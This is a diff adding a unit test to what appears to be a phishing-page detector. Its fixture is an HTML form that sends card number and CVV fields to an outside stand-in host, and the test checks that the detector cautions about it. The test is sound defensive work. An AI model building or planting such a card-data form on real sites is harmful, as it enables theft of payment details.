@@ -46,6 +46,20 @@ def test_an_official_page_that_leads_elsewhere_is_cautioned() -> None:
     assert "taken over" in found["leads_elsewhere"].observation
 
 
+def test_an_official_domain_that_sends_card_data_elsewhere_is_cautioned() -> None:
+    form = '<form action="http://{}/take"><input name="card_number"><input name="cvv"></form>'
+
+    def lead_to(host: str, **changes: Any) -> dict[str, Finding]:
+        return examine(landing(form.format(host), "", url="http://www.gov-demo.example/"), **changes)
+
+    found = lead_to("pay-gate.example", page_url=OFFICIAL_PAGE)
+    assert {"official_page", "official_domain"} < found.keys()
+    assert "sends card data to pay-gate[.]example" in found["leads_elsewhere"].observation
+    assert "leads_elsewhere" in lead_to("pay-gate.example")
+    for own in ("pay.gov-demo.example", "socar.az"):
+        assert "leads_elsewhere" not in lead_to(own, page_url=OFFICIAL_PAGE)
+
+
 def test_a_name_is_a_warning_and_no_proof() -> None:
     found = examine(page_name="Aysel Quliyeva (rəsmi)")
     assert found["name_looks_official"].bearing is Bearing.INCONCLUSIVE
